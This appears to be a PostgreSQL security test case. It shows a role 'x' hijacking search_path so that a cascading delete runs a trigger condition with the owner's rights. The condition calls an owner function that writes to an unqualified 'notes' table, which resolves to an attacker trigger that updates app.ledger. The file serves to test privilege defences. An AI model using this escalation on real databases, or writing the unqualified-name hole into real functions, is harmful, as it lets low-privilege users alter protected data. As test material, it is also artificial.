-- A foreign key asks a trigger's condition as the owner, with the names of whoever deletes
-- expect: B
-- base: revoked
-- loses: immutability
--> setup
CREATE SCHEMA evil AUTHORIZATION {x};
SET ROLE {owner};
CREATE TABLE app.parent (id int PRIMARY KEY);
INSERT INTO app.parent VALUES (1);
CREATE TABLE app.child (id int REFERENCES app.parent ON DELETE CASCADE);
INSERT INTO app.child VALUES (1);
CREATE TABLE app.notes (line text);
CREATE FUNCTION app.is_due(id int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN INSERT INTO notes VALUES ('asked'); RETURN false; END $$;
CREATE FUNCTION app.nothing() RETURNS trigger LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$ BEGIN RETURN OLD; END $$;
CREATE TRIGGER asks BEFORE DELETE ON app.child FOR EACH ROW WHEN (app.is_due(OLD.id)) EXECUTE FUNCTION app.nothing();
GRANT SELECT, DELETE ON app.parent TO {x};
RESET ROLE;
--> as x
CREATE TABLE evil.notes (line text);
CREATE FUNCTION evil.go() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN UPDATE app.ledger SET status = ''changed''; RETURN NEW; END';
CREATE TRIGGER go BEFORE INSERT ON evil.notes FOR EACH ROW EXECUTE FUNCTION evil.go();
GRANT USAGE ON SCHEMA evil TO {owner};
GRANT INSERT ON evil.notes TO {owner};
SET search_path = evil;
DELETE FROM app.parent;
